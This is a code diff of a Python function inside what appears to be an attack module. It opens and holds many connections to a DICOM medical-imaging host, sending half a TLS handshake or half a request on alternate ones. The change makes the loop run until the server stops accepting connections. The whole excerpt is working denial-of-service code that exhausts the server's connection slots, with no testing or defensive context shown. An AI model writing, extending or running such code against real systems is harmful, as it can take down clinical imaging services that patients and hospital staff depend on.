@@ -41,14 +41,15 @@ def attack(brief: Brief) -> Result:
 
 
 def _hoard(brief: Brief, port: int, words: bytes) -> list[socket.socket]:
-    """Connections with nothing, half a handshake or half a request on them; a closed one is no reason to stop."""
+    """Connections with nothing, half a handshake or half a request on them, until no more are taken."""
     held: list[socket.socket] = []
-    for turn in range(_COUNT):
-        with contextlib.suppress(OSError):
+    with contextlib.suppress(OSError):
+        for turn in range(_COUNT):
             where = (brief["dicom"]["host"], port)
             held.append(socket.create_connection(where, timeout=1, source_address=(_SOURCE, 0)))
             if turn % 2:
-                held[-1].sendall(b"\x16\x03\x01\x02\x00" if turn % 4 == 1 else words)
+                with contextlib.suppress(OSError):  # one that was closed is no reason to stop
+                    held[-1].sendall(b"\x16\x03\x01\x02\x00" if turn % 4 == 1 else words)
     return held
 
 
